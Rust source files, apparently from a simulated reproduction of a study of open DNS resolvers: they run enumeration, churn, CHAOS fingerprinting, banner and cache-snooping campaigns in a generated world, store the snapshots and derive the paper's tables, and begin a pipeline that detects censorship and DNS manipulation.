                                result.skipped_blacklisted.to_string(),
                            ),
                            (
                                META_GROUND_TRUTH.to_string(),
                                serde_json::to_string(&truth)
                                    .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?,
                            ),
                        ];
                        telemetry::info(
                            "campaign.fleet",
                            "enumerated fingerprinting fleet",
                            &[("open_resolvers", result.noerror_ips().len().into())],
                            Some(world.now().millis()),
                        );
                        data.get_mut(&Fleet).unwrap().sink().commit(
                            "fleet",
                            world.now().millis(),
                            &meta,
                        )?;
                        Ok(result)
                    },
                )?;
                absorb(
                    &mut coverage,
                    Fleet,
                    Coverage::space(
                        result.probes_sent + result.skipped_blacklisted,
                        result.probes_sent,
                    ),
                );
                fleet = Some(result.noerror_ips());
            }
            Task::Cohort => {
                if committed[&Churn] >= 1 {
                    cohort = Some(
                        data[&Churn]
                            .source()
                            .snapshot(0)?
                            .records
                            .iter()
                            .map(|o| o.ipv4())
                            .collect(),
                    );
                    continue;
                }
                mark_ran(&mut ran, Churn);
                let ips = fleet.clone().expect("fleet precedes churn cohort");
                with_checkpoint_retry(
                    Churn,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let sink = data.get_mut(&Churn).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        churn_campaign::commit_round(
                            world,
                            &mut enriched,
                            ips.iter().copied(),
                            "cohort",
                            &[],
                        )
                    },
                )?;
                cohort = Some(ips);
            }
            Task::Day1 => {
                if committed[&Churn] >= 2 {
                    continue;
                }
                mark_ran(&mut ran, Churn);
                let ips = cohort.as_ref().expect("cohort precedes day1");
                let (alive, retries) = with_checkpoint_retry(
                    Churn,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let (alive, retries) = churn_campaign::probe_alive_with_policy(
                            world,
                            vantage,
                            ips,
                            CHURN_SEED ^ 0xD1,
                            &opts.probe,
                        );
                        let meta = churn_campaign::day1_leaver_meta(world, ips, &alive);
                        let sink = data.get_mut(&Churn).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        churn_campaign::commit_round(
                            world,
                            &mut enriched,
                            ips.iter().copied().filter(|ip| alive.contains(ip)),
                            "day1",
                            &meta,
                        )?;
                        Ok((alive, retries))
                    },
                )?;
                absorb(
                    &mut coverage,
                    Churn,
                    response_coverage(&world, ips, true, &alive, retries),
                );
            }
            Task::ChurnWeek(w) => {
                if w + 1 < committed[&Churn] {
                    continue;
                }
                mark_ran(&mut ran, Churn);
                let ips = cohort.as_ref().expect("cohort precedes churn weeks");
                let (alive, retries) = with_checkpoint_retry(
                    Churn,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let (alive, retries) = churn_campaign::probe_alive_with_policy(
                            world,
                            vantage,
                            ips,
                            CHURN_SEED ^ (w as u64) << 8,
                            &opts.probe,
                        );
                        telemetry::debug(
                            "campaign.churn.round",
                            "weekly re-probe committed",
                            &[("week", w.into()), ("alive", alive.len().into())],
                            Some(world.now().millis()),
                        );
                        let sink = data.get_mut(&Churn).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        churn_campaign::commit_round(
                            world,
                            &mut enriched,
                            ips.iter().copied().filter(|ip| alive.contains(ip)),
                            &format!("week-{w}"),
                            &[],
                        )?;
                        Ok((alive, retries))
                    },
                )?;
                absorb(
                    &mut coverage,
                    Churn,
                    response_coverage(&world, ips, true, &alive, retries),
                );
            }
            Task::Chaos => {
                if committed[&Chaos] >= 1 {
                    continue;
                }
                mark_ran(&mut ran, Chaos);
                let ips = fleet.as_ref().expect("fleet precedes chaos");
                let observations = with_checkpoint_retry(
                    Chaos,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let sink = data.get_mut(&Chaos).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        let observations = scanner::chaos_scan_with_sink(
                            world,
                            vantage,
                            ips,
                            opts.seed,
                            &opts.probe,
                            &mut enriched,
                        );
                        data.get_mut(&Chaos).unwrap().sink().commit(
                            "chaos",
                            world.now().millis(),
                            &[],
                        )?;
                        Ok(observations)
                    },
                )?;
                let (observations, retries) = observations;
                let answered: std::collections::HashSet<Ipv4Addr> = observations
                    .iter()
                    .filter(|(_, o)| **o != scanner::ChaosObservation::Silent)
                    .map(|(&ip, _)| ip)
                    .collect();
                absorb(
                    &mut coverage,
                    Chaos,
                    response_coverage(&world, ips, false, &answered, retries),
                );
            }
            Task::Banner => {
                if committed[&Banner] >= 1 {
                    continue;
                }
                mark_ran(&mut ran, Banner);
                let ips = fleet.clone().expect("fleet precedes banner");
                let cov = with_checkpoint_retry(
                    Banner,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        banner_collect(
                            world,
                            &ips,
                            &opts.probe,
                            data.get_mut(&Banner).unwrap().sink(),
                        )
                    },
                )?;
                absorb(&mut coverage, Banner, cov);
            }
            Task::Domains => {
                if committed[&Domains] >= 1 {
                    continue;
                }
                mark_ran(&mut ran, Domains);
                let ips = fleet.clone().expect("fleet precedes domains");
                // One shared probe policy for every campaign in the
                // bundle, the domain scan included.
                let mut aopts = opts.analysis.clone();
                aopts.probe = opts.probe;
                let report = with_checkpoint_retry(
                    Domains,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let report =
                            crate::pipeline::run_analysis_with_fleet(world, ips.clone(), &aopts);
                        let json = serde_json::to_string(&report)
                            .map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))?;
                        data.get_mut(&Domains).unwrap().sink().commit(
                            "analysis",
                            world.now().millis(),
                            &[(META_ANALYSIS_REPORT.to_string(), json)],
                        )?;
                        Ok(report)
                    },
                )?;
                absorb(&mut coverage, Domains, report.domains_coverage);
            }
            Task::Snoop => {
                if committed[&Snoop] > 0 {
                    continue; // completeness validated above
                }
                mark_ran(&mut ran, Snoop);
                // Snooping starts a day after enumeration; DHCP churn
                // has already moved a good share of the fleet, so probe
                // for liveness first and sample resolvers still at
                // their address — as the paper snooped resolvers from
                // the current scan, not a stale list.
                let ips = fleet.as_ref().expect("fleet precedes snoop");
                let (sample, results, retries) = with_checkpoint_retry(
                    Snoop,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let alive =
                            churn_campaign::probe_alive(world, vantage, ips, SNOOP_SEED ^ 0xA11E);
                        let sample: Vec<Ipv4Addr> = ips
                            .iter()
                            .copied()
                            .filter(|ip| alive.contains(ip))
                            .take(opts.snoop_sample)
                            .collect();
                        let (results, retries) = scanner::snoop_scan_with_sink(
                            world,
                            vantage,
                            &sample,
                            opts.snoop_rounds,
                            SNOOP_SEED,
                            &opts.probe,
                            data.get_mut(&Snoop).unwrap().sink(),
                        )?;
                        Ok((sample, results, retries))
                    },
                )?;
                // Resolver-granularity coverage: a snooped resolver is
                // answered when any (round, TLD) sample got a response.
                let answered: std::collections::HashSet<Ipv4Addr> = results
                    .iter()
                    .filter(|(_, r)| r.samples.iter().any(|s| *s != scanner::SnoopSample::Silent))
                    .map(|(&ip, _)| ip)
                    .collect();
                absorb(
                    &mut coverage,
                    Snoop,
                    response_coverage(&world, &sample, false, &answered, retries),
                );
            }
            Task::VerifyPrimary | Task::VerifySecondary => {
                let (pass, label) = match task {
                    Task::VerifyPrimary => (1, "primary"),
                    _ => (2, "secondary"),
                };
                if committed[&Verify] >= pass {
                    continue;
                }
                mark_ran(&mut ran, Verify);
                let (van, seed) = match task {
                    Task::VerifyPrimary => (vantage, opts.seed),
                    _ => (world.scanner2_ip, opts.seed ^ 0x5EC0),
                };
                let result = with_checkpoint_retry(
                    Verify,
                    store_dir,
                    &mut data,
                    &mut world,
                    &mut |world, data| {
                        let sink = data.get_mut(&Verify).unwrap().sink();
                        let mut enriched = EnrichSink::new(world, sink);
                        let result = enumerate_with_sink(world, van, seed, &mut enriched);
                        data.get_mut(&Verify).unwrap().sink().commit(
                            label,
                            world.now().millis(),
                            &[],
                        )?;
                        Ok(result)
                    },
                )?;
                absorb(
                    &mut coverage,
                    Verify,
                    Coverage::space(
                        result.probes_sent + result.skipped_blacklisted,
                        result.probes_sent,
                    ),
                );
            }
        }
    }
    if let Some(s) = bundle_span.take() {
        s.finish(world.now().millis());
    }
    // Final simulated clock, read back by `repro bench` as the run's
    // sim-time figure.
    telemetry::gauge("collect.sim_end_ms").set(world.now().millis() as f64);

    if opts.coverage {
        for (kind, cov) in &coverage {
            if cov.fraction() < opts.degraded_threshold {
                telemetry::global()
                    .counter_with("collect.campaign_degraded", &[("campaign", kind.name())])
                    .inc();
                telemetry::warn(
                    "collect.degraded",
                    "campaign coverage below threshold",
                    &[
                        ("campaign", kind.name().into()),
                        ("fraction", cov.fraction().into()),
                        ("threshold", opts.degraded_threshold.into()),
                        ("gave_up", cov.gave_up.into()),
                        ("unreachable", cov.unreachable.into()),
                    ],
                    Some(world.now().millis()),
                );
            }
        }
    }
    Ok(BundleData { data, coverage })
}

/// Runs the TCP banner grab and commits one enriched snapshot: the
/// TCP-responsive flag, the banner-corpus hash, and the fingerprinted
/// device interned as `"hardware|os"` — everything Table 4 needs
/// without the world.
fn banner_collect(
    world: &mut World,
    fleet: &[Ipv4Addr],
    policy: &ProbePolicy,
    sink: &mut dyn SnapshotSink,
) -> io::Result<Coverage> {
    let (banners, coverage) = scanner::banner_scan_ex(world, fleet, policy);
    let now_ms = world.now().millis();
    for (&ip, obs) in &banners {
        let fp = fingerprint_device(obs);
        let device = sink.intern(&format!("{}|{}", fp.class.label(), fp.os.label()));
        sink.observe(Observation {
            flags: flags::TCP_RESPONSIVE,
            banner_hash: scanstore::fnv1a(obs.corpus().as_bytes()),
            device,
            ..Observation::at(u32::from(ip), 0, now_ms)
        });
    }
    let meta = vec![(META_FLEET.to_string(), fleet.len().to_string())];
    sink.commit("banner", now_ms, &meta)?;
    Ok(coverage)
}

/// Meta key on the banner snapshot: probed fleet size.
const META_FLEET: &str = "fleet";

// =====================================================================
// Derivations over bundle stores
// =====================================================================

/// Derive Table 4 from a committed banner snapshot: records are the
/// TCP-responsive hosts, device labels are interned `"hardware|os"`
/// pairs, and the probed fleet size rides in the meta.
pub fn table4_from_source(src: &dyn SnapshotSource) -> io::Result<Table4Report> {
    let snap = src.snapshot(0)?;
    let fleet = snap
        .meta_value(META_FLEET)
        .and_then(|v| v.parse().ok())
        .unwrap_or(0);
    let mut hardware: BTreeMap<String, u64> = BTreeMap::new();
    let mut os: BTreeMap<String, u64> = BTreeMap::new();
    for o in &snap.records {
        let label = src.string(o.device);
        let (hw, osl) = label.split_once('|').unwrap_or((label, ""));
        *hardware.entry(hw.to_string()).or_insert(0) += 1;
        *os.entry(osl.to_string()).or_insert(0) += 1;
    }
    let total = snap.records.len().max(1) as f64;
    Ok(Table4Report {
        fleet,
        tcp_responsive: snap.records.len() as u64,
        hardware: hardware
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        os: os
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
    })
}

/// Derive the utilization report (Sec. 2.6) from a committed snoop
/// store: the per-resolver series are rebuilt from the value-encoded
/// round snapshots, the authoritative TTLs from the campaign meta.
pub fn util_from_source(src: &dyn SnapshotSource) -> io::Result<UtilReport> {
    let snooped = scanner::snoop_from_source(src)?;
    let full = scanner::snoop_full_ttls_from_source(src)?;
    // The survey-based estimator remains available for settings where
    // authoritative TTLs are not public zone data.
    let results: Vec<&scanner::SnoopResult> = snooped.values().collect();
    let _ = estimate_full_ttls(&results);
    let mut counts: BTreeMap<String, u64> = BTreeMap::new();
    let mut rates: Vec<f64> = Vec::new();
    for r in snooped.values() {
        let class = classify_snoop(r, &full);
        *counts.entry(format!("{class:?}")).or_insert(0) += 1;
        if let Some(rate) = classify::snoopclass::estimate_popularity(r, &full) {
            rates.push(rate);
        }
    }
    rates.sort_by(|a, b| a.partial_cmp(b).unwrap());
    let pct = |p: f64| -> Option<f64> {
        if rates.is_empty() {
            None
        } else {
            Some(rates[((rates.len() - 1) as f64 * p) as usize])
        }
    };
    let total = snooped.len().max(1) as f64;
    Ok(UtilReport {
        probed: snooped.len() as u64,
        shares: counts
            .into_iter()
            .map(|(k, v)| (k, 100.0 * v as f64 / total))
            .collect(),
        popularity_median: pct(0.5),
        popularity_p90: pct(0.9),
    })
}

/// Derive the dual-vantage verification report from the committed
/// `primary`/`secondary` enumeration snapshots.
pub fn verification_from_source(src: &dyn SnapshotSource) -> io::Result<VerificationReport> {
    let missing = |label: &str| {
        io::Error::new(
            io::ErrorKind::InvalidData,
            format!("verify store missing `{label}` snapshot"),
        )
    };
    let primary = src.snapshot(
        src.find_label("primary")
            .ok_or_else(|| missing("primary"))?,
    )?;
    let secondary = src.snapshot(
        src.find_label("secondary")
            .ok_or_else(|| missing("secondary"))?,
    )?;
    let primary_ips: std::collections::HashSet<u32> =
        primary.records.iter().map(|o| o.ip).collect();
    let mut report = VerificationReport {
        primary_noerror: primary
            .records
            .iter()
            .filter(|o| o.rcode == Rcode::NoError.to_u8())
            .count() as u64,
        ..Default::default()
    };
    for o in &secondary.records {
        if !primary_ips.contains(&o.ip) {
            *report
                .only_secondary
                .entry(Rcode::from_u8(o.rcode).mnemonic().to_string())
                .or_insert(0) += 1;
            if o.rcode == Rcode::NoError.to_u8() {
                report.missed_noerror += 1;
            }
        }
    }
    Ok(report)
}

/// Read the Sections 3–4 analysis report back out of the domains
/// store's snapshot meta.
pub fn analysis_from_source(
    src: &dyn SnapshotSource,
) -> io::Result<crate::pipeline::AnalysisReport> {
    let seq = src.find_label("analysis").ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::InvalidData,
            "domains store missing `analysis` snapshot",
        )
    })?;
    let snap = src.snapshot(seq)?;
    let raw = snap.meta_value(META_ANALYSIS_REPORT).ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::InvalidData,
            "analysis snapshot missing `report` meta",
        )
    })?;
    serde_json::from_str(raw).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
}

/// Read the planted [`GroundTruth`] back out of the fleet snapshot.
pub fn ground_truth_from_source(src: &dyn SnapshotSource) -> io::Result<GroundTruth> {
    let snap = src.snapshot(0)?;
    let raw = snap.meta_value(META_GROUND_TRUTH).ok_or_else(|| {
        io::Error::new(
            io::ErrorKind::InvalidData,
            "fleet snapshot missing `ground_truth` meta",
        )
    })?;
    serde_json::from_str(raw).map_err(|e| io::Error::new(io::ErrorKind::InvalidData, e))
}

/// NOERROR / REFUSED counts recovered from a committed fleet snapshot.
pub fn fleet_counts_from_source(src: &dyn SnapshotSource) -> io::Result<(u64, u64)> {
    let snap = src.snapshot(0)?;
    let count = |rc: Rcode| {
        snap.records
            .iter()
            .filter(|o| o.rcode == rc.to_u8())
            .count() as u64
    };
    Ok((count(Rcode::NoError), count(Rcode::Refused)))
}
