//! Campaign collection into snapshot stores, and derivation of the
//! paper artifacts back out of them.
//!
//! Every figure/table runner in [`crate::experiments`] is split in two:
//!
//! * **collect** — drive the scan campaign, streaming observations into
//!   a [`SnapshotSink`] (one committed snapshot per scan round);
//! * **derive** — compute the report from any [`SnapshotSource`].
//!
//! With a [`MemoryStore`] sink this is the classic in-memory run; with
//! a [`CampaignStore`] the same campaign becomes durable, resumable
//! after a kill (committed rounds are skipped on the next run), and
//! re-servable without re-simulation. Both paths execute identical
//! collection and derivation code, which is what the byte-for-byte
//! equivalence tests assert.
//!
//! Resume caveat: the simulated network draws its loss realization from
//! a global packet counter, so a resumed campaign sees a *different but
//! statistically identical* loss pattern for the remaining rounds than
//! an uninterrupted run would have. Committed rounds are never altered.

use crate::experiments::{Fig1Report, Fig2Report, Table3Report, WeekRow};
use classify::{classify_version, SoftwareClass};
use geodb::{GeoDb, RdnsDb};
use scanner::{churn_from_source, enumerate_with_sink, track_cohort_with_sink};
use scanstore::{
    flags, CampaignStore, Observation, ObservationSink, SnapshotSink, SnapshotSource, StoreStats,
};
use std::collections::BTreeMap;
use std::io;
use std::path::Path;
use worldgen::{build_world, World, WorldConfig};

/// Wraps a sink and enriches every observation with the GeoIP country
/// and the rDNS dynamic/static token before forwarding it, so those
/// attributes are queryable from the store without the world.
pub struct EnrichSink<'a> {
    inner: &'a mut dyn SnapshotSink,
    geo: GeoDb,
    rdns: RdnsDb,
}

impl<'a> EnrichSink<'a> {
    /// Captures the world's geo/rDNS databases for enrichment.
    pub fn new(world: &World, inner: &'a mut dyn SnapshotSink) -> EnrichSink<'a> {
        EnrichSink {
            geo: world.geo.clone(),
            rdns: world.rdns.clone(),
            inner,
        }
    }
}

impl ObservationSink for EnrichSink<'_> {
    fn observe(&mut self, mut obs: Observation) {
        let ip = obs.ipv4();
        if let Some(cc) = self.geo.country(ip) {
            obs.country = self.inner.intern(cc.as_str());
        }
        if self.rdns.lookup(ip).is_some() {
            let token = if self.rdns.is_dynamic(ip) {
                "dyn"
            } else {
                "static"
            };
            obs.rdns = self.inner.intern(token);
        }
        self.inner.observe(obs);
    }

    fn intern(&mut self, s: &str) -> u32 {
        self.inner.intern(s)
    }
}

impl SnapshotSink for EnrichSink<'_> {
    fn commit(&mut self, label: &str, t_ms: u64, meta: &[(String, String)]) -> io::Result<u32> {
        self.inner.commit(label, t_ms, meta)
    }
}

// =====================================================================
// Weekly enumeration (Fig. 1, Tables 1–2)
// =====================================================================

/// Meta keys carried by each weekly snapshot.
const META_TRUTH: &str = "truth";
const META_PROBES: &str = "probes_sent";
const META_SKIPPED: &str = "skipped_blacklisted";

/// Run the weekly enumeration campaign, committing one snapshot per
/// week. Weeks before `start_week` are assumed committed in the sink
/// already and are skipped (checkpoint resume).
pub fn collect_weekly(
    cfg: WorldConfig,
    weeks: u32,
    start_week: u32,
    sink: &mut dyn SnapshotSink,
) -> io::Result<()> {
    let mut world = build_world(cfg);
    let vantage = world.scanner_ip;
    let blacklist = scanner::Blacklist::new(
        world.blacklist_ranges.clone(),
        world.blacklist_singles.clone(),
    );
    if start_week > 0 {
        telemetry::info(
            "campaign.resume",
            "resuming weekly campaign from checkpoint",
            &[("start_week", start_week.into()), ("weeks", weeks.into())],
            Some(world.now().millis()),
        );
    }
    for week in start_week..weeks {
        world.advance_to_week(week);
        let mut sp = telemetry::span("campaign.week", world.now().millis());
        sp.attr("week", week);
        // Ground truth for the cross-check: alive NOERROR resolvers
        // reachable by the scan (not opted out, not behind full border
        // filters — those are invisible to every outside observer).
        let truth = world
            .resolvers
            .iter()
            .filter(|m| {
                m.response_class == worldgen::world::ResponseClass::NoError
                    && m.alive.load(std::sync::atomic::Ordering::Relaxed)
                    && world
                        .resolver_ip(m)
                        .map(|ip| !blacklist.contains(ip))
                        .unwrap_or(false)
                    && !world
                        .border_filtered_asns
                        .iter()
                        .any(|&(asn, w)| m.asn == asn && week >= w)
            })
            .count() as u64;
        let mut enriched = EnrichSink::new(&world, sink);
        let result = enumerate_with_sink(&mut world, vantage, 0xF161 + week as u64, &mut enriched);
        let meta = vec![
            (META_TRUTH.to_string(), truth.to_string()),
            (META_PROBES.to_string(), result.probes_sent.to_string()),
            (
                META_SKIPPED.to_string(),
                result.skipped_blacklisted.to_string(),
            ),
        ];
        sink.commit(&format!("week-{week}"), world.now().millis(), &meta)?;
        sp.attr("probes_sent", result.probes_sent);
        sp.attr("responders", result.observations.len());
        sp.attr("truth_noerror", truth);
        sp.finish(world.now().millis());
        telemetry::info(
            "campaign.week",
            "weekly enumeration committed",
            &[
                ("week", week.into()),
                ("probes_sent", result.probes_sent.into()),
                ("responders", result.observations.len().into()),
            ],
            Some(world.now().millis()),
        );
    }
    Ok(())
}

/// Derive the Figure 1 series (and the per-country snapshots Tables
/// 1–2 need) from a committed weekly snapshot sequence.
pub fn fig1_from_source(src: &dyn SnapshotSource) -> io::Result<Fig1Report> {
    let mut report = Fig1Report::default();
    let last = src.snapshot_count().saturating_sub(1);
    src.for_each_snapshot(&mut |snap| {
        let mut row = WeekRow {
            week: snap.seq,
            ..WeekRow::default()
        };
        let mut by_country: BTreeMap<String, u64> = BTreeMap::new();
        for o in &snap.records {
            row.all += 1;
            match o.rcode {
                0 => row.noerror += 1,
                5 => row.refused += 1,
                2 => row.servfail += 1,
                _ => {}
            }
            if o.flags & flags::PROXY != 0 {
                row.proxy_responders += 1;
            }
            if o.rcode == 0 && o.country != 0 {
                *by_country
                    .entry(src.string(o.country).to_string())
                    .or_insert(0) += 1;
            }
        }
        report.ground_truth_noerror.push(
            snap.meta_value(META_TRUTH)
                .and_then(|v| v.parse().ok())
                .unwrap_or(0),
        );
        if snap.seq == 0 {
            report.first_by_country = by_country.clone();
        }
        if snap.seq == last {
            report.last_by_country = by_country;
        }
        report.weeks.push(row);
        Ok(())
    })?;
    Ok(report)
}

/// Run (or resume, or merely reopen) the weekly campaign against the
/// persistent store under `dir` and derive Figure 1 from it. When the
/// store already holds all `weeks` snapshots nothing is re-simulated.
pub fn stored_fig1(
    cfg: WorldConfig,
    weeks: u32,
    dir: &Path,
) -> io::Result<(Fig1Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("weekly"))?;
    let committed = store.snapshot_count();
    if committed < weeks {
        collect_weekly(cfg, weeks, committed, &mut store)?;
    }
    Ok((fig1_from_source(&store)?, store.stats()))
}

// =====================================================================
// Churn cohort tracking (Fig. 2)
// =====================================================================

/// Run the churn campaign into `sink`, resuming past any committed
/// rounds. The cohort comes from a fresh enumeration on the first run
/// and is read back from snapshot 0 on resume.
pub fn collect_churn<S: SnapshotSink + SnapshotSource>(
    cfg: WorldConfig,
    weeks: u32,
    sink: &mut S,
) -> io::Result<()> {
    let committed = sink.snapshot_count();
    if committed >= weeks + 2 {
        return Ok(()); // cohort + day1 + weekly rounds all durable
    }
    let mut world = build_world(cfg);
    let vantage = world.scanner_ip;
    let cohort: Vec<std::net::Ipv4Addr> = if committed == 0 {
        scanner::enumerate(&mut world, vantage, 0xF162).noerror_ips()
    } else {
        sink.snapshot(0)?.records.iter().map(|o| o.ipv4()).collect()
    };
    let mut enriched = EnrichSink::new(&world, sink);
    track_cohort_with_sink(
        &mut world,
        vantage,
        &cohort,
        weeks,
        0xF162,
        &mut enriched,
        committed,
    )
}

/// Derive Figure 2 from a committed churn snapshot sequence.
pub fn fig2_from_source(src: &dyn SnapshotSource) -> io::Result<Fig2Report> {
    Ok(Fig2Report {
        churn: churn_from_source(src)?,
    })
}

/// Run (or resume, or merely reopen) the churn campaign against the
/// persistent store under `dir` and derive Figure 2 from it.
pub fn stored_fig2(
    cfg: WorldConfig,
    weeks: u32,
    dir: &Path,
) -> io::Result<(Fig2Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("churn"))?;
    collect_churn(cfg, weeks, &mut store)?;
    Ok((fig2_from_source(&store)?, store.stats()))
}

// =====================================================================
// CHAOS fingerprinting (Table 3) from a stored snapshot
// =====================================================================

/// Derive Table 3 from a committed CHAOS snapshot: outcome codes live
/// in the flag bits, version strings in the interned `software` field.
pub fn table3_from_source(src: &dyn SnapshotSource, seq: u32) -> io::Result<Table3Report> {
    let snap = src.snapshot(seq)?;
    let mut report = Table3Report::default();
    for o in &snap.records {
        match flags::chaos_outcome(o.flags) {
            flags::CHAOS_ERRORS => {
                report.responding += 1;
                report.errors += 1;
            }
            flags::CHAOS_EMPTY => {
                report.responding += 1;
                report.empty += 1;
            }
            flags::CHAOS_VERSION => {
                report.responding += 1;
                match classify_version(src.string(o.software)) {
                    SoftwareClass::Known { family, version } => {
                        report.genuine += 1;
                        *report
                            .versions
                            .entry(format!("{family} {version}"))
                            .or_insert(0) += 1;
                    }
                    SoftwareClass::Custom(_) => report.custom += 1,
                }
            }
            _ => {}
        }
    }
    Ok(report)
}

/// Run (or reopen) the CHAOS campaign against the persistent store
/// under `dir` and derive Table 3. The fleet is enumerated fresh only
/// when the store has no committed CHAOS snapshot yet.
pub fn stored_table3(
    cfg: WorldConfig,
    seed: u64,
    dir: &Path,
) -> io::Result<(Table3Report, StoreStats)> {
    let mut store = CampaignStore::open(dir.join("chaos"))?;
    if store.snapshot_count() == 0 {
        let mut world = build_world(cfg);
        let vantage = world.scanner_ip;
        let fleet = scanner::enumerate(&mut world, vantage, seed).noerror_ips();
        let mut enriched = EnrichSink::new(&world, &mut store);
        scanner::chaos_scan_with_sink(&mut world, vantage, &fleet, seed, &mut enriched);
        let t_ms = world.now().millis();
        store.commit("chaos", t_ms, &[])?;
    }
    Ok((table3_from_source(&store, 0)?, store.stats()))
}
