//! The Sections 3–4 pipeline: domain scan → prefilter → acquisition →
//! clustering → labeling → censorship + case studies (Figure 3).

use classify::cases::{
    detect_ad_manipulation, detect_mail_interception, detect_malware_updates, detect_phishing,
    detect_proxies, AdReport, CaseRecord, MailReport, MalwareReport, PhishFinding, ProxyReport,
};
use classify::censorship::{
    detect_double_responses, ComplianceReport, DoubleResponseReport, LandingInventory,
};
use classify::labeler::{label_cluster, label_page, Label, LabelInput};
use classify::{fine_cluster, FilterVerdict, PreFilter, TrustedView};
use geodb::Country;
use htmlsim::diff::tag_delta;
use htmlsim::distance::{page_distance, FeatureWeights};
use htmlsim::{PageFeatures, TagInterner};
use netsim::SimTime;
use resolversim::{DomainCategory, Resolution};
use scanner::{
    acquire_with_policy, scan_domains_streaming_with_policy, Acquired, Coverage, ProbePolicy,
    TupleObs,
};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};
use std::net::Ipv4Addr;
use worldgen::world::ResponseClass;
use worldgen::World;

/// Pipeline tunables.
#[derive(Debug, Clone)]
pub struct AnalysisOptions {
    /// Restrict the scan to these domains (None = full catalog + GT).
    pub domains: Option<Vec<String>>,
    /// Maximum pages entering the O(n²) clustering; the rest are
    /// assigned to the nearest clustered exemplar (logged, never
    /// silently dropped).
    pub cluster_cap: usize,
    /// Linkage cut threshold for the coarse clustering.
    pub cluster_threshold: f64,
    /// Minimum mirrored domains before an IP counts as a proxy.
    pub proxy_min_domains: usize,
    /// Scan seed.
    pub seed: u64,
    /// Retransmission policy for the domain scan and acquisition
    /// fetches (single-attempt by default — byte-identical to the
    /// pre-policy pipeline).
    pub probe: ProbePolicy,
}

impl Default for AnalysisOptions {
    fn default() -> Self {
        AnalysisOptions {
            domains: None,
            cluster_cap: 2_500,
            cluster_threshold: 0.32,
            proxy_min_domains: 4,
            seed: 0x0006_011D_57AB,
            probe: ProbePolicy::single(),
        }
    }
}

/// Prefilter statistics per domain category (Sec. 4.1).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CategoryStats {
    /// Tuples with any response.
    pub responses: u64,
    /// Tuples judged legitimate by the prefilter.
    pub legit: u64,
    /// Empty NOERROR answers.
    pub empty: u64,
    /// Error rcodes.
    pub error: u64,
    /// Suspicious tuples surviving all prefilter stages.
    pub unexpected: u64,
    /// Tuples reclassified as legitimate by the certificate stage.
    pub cert_rescued: u64,
}

impl CategoryStats {
    /// Legitimate tuples over responses.
    pub fn legit_share(&self) -> f64 {
        if self.responses == 0 {
            0.0
        } else {
            self.legit as f64 / self.responses as f64
        }
    }

    /// Suspicious tuples over responses.
    pub fn unexpected_share(&self) -> f64 {
        if self.responses == 0 {
            0.0
        } else {
            self.unexpected as f64 / self.responses as f64
        }
    }
}

/// Resolver-level oddities (Sec. 4.1).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ResolverOddities {
    /// Resolvers returning their own address for ≥75% of domains.
    pub self_ip_everywhere: u64,
    /// Resolvers returning one single static address for every answered
    /// domain.
    pub static_single_ip: u64,
    /// Resolvers returning the same address set for more than one domain.
    pub same_set_multi_domain: u64,
    /// Resolvers answering with NS-only referrals.
    pub ns_only: u64,
    /// Total suspicious resolvers (any unexpected tuple).
    pub suspicious_resolvers: u64,
    /// Of the self-IP resolvers with fetched content: how many served a
    /// router/CPE login page (Sec. 4.1: 65.9%) or an IP-camera page
    /// (7.0%).
    pub self_ip_router_login: u64,
    /// Self-IP resolvers serving camera login pages.
    pub self_ip_camera: u64,
}

/// Per-category Table 5 row: average and per-domain max share per label.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Table5Row {
    /// Domain category label.
    pub category: String,
    /// label → (average share %, max share % over the category's domains).
    pub shares: BTreeMap<String, (f64, f64)>,
}

/// Figure 4: country mix for the social-media domains.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct Fig4Report {
    /// Country → resolvers answering the 3 domains (any response).
    pub all: BTreeMap<String, u64>,
    /// Country → resolvers with unexpected answers for the 3 domains.
    pub unexpected: BTreeMap<String, u64>,
}

impl Fig4Report {
    /// Share of a country within the unexpected population.
    pub fn unexpected_share(&self, cc: &str) -> f64 {
        let total: u64 = self.unexpected.values().sum();
        if total == 0 {
            return 0.0;
        }
        *self.unexpected.get(cc).unwrap_or(&0) as f64 / total as f64
    }
}

/// Censorship findings (Sec. 4.2).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CensorshipSection {
    /// Censorship landing-page inventory.
    pub landing: LandingInventory,
    /// Per-country compliance matrix.
    pub compliance: ComplianceReport,
    /// Dual-answer (injector) evidence.
    pub doubles: DoubleResponseReport,
}

/// Case-study findings (Sec. 4.3).
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct CaseSection {
    /// Ad-manipulation findings.
    pub ads: AdReport,
    /// Transparent-proxy findings.
    pub proxies: ProxyReport,
    /// Phishing findings.
    pub phishing: Vec<PhishFinding>,
    /// Mail-interception findings.
    pub mail: MailReport,
    /// Fake-update findings.
    pub malware: MalwareReport,
}

/// One fine-grained modification cluster (Sec. 3.6): a set of pages
/// that apply the *same* small modification to a known page.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct ModificationCluster {
    /// Distinct modified pages in the cluster.
